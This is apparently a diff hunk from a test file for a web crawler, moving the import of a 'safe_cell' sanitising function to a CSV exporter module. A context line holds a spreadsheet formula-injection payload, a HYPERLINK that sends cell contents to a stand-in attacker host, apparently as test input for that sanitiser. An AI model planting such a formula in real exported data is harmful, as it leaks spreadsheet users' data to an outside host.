@@ -11,7 +11,7 @@ from http.server import BaseHTTPRequestHandler
 from helpers import rqcrawl, seed_local, wait_finished
 from servers import HTTPSite, reply
 
-from rqcrawl.ops.sinks import safe_cell
+from rqcrawl.ops.exporters.csv import safe_cell
 from rqcrawl.workers.runner import LocalWorkers
 
 TITLE = '=HYPERLINK("http://evil.example/?x="&A1)'
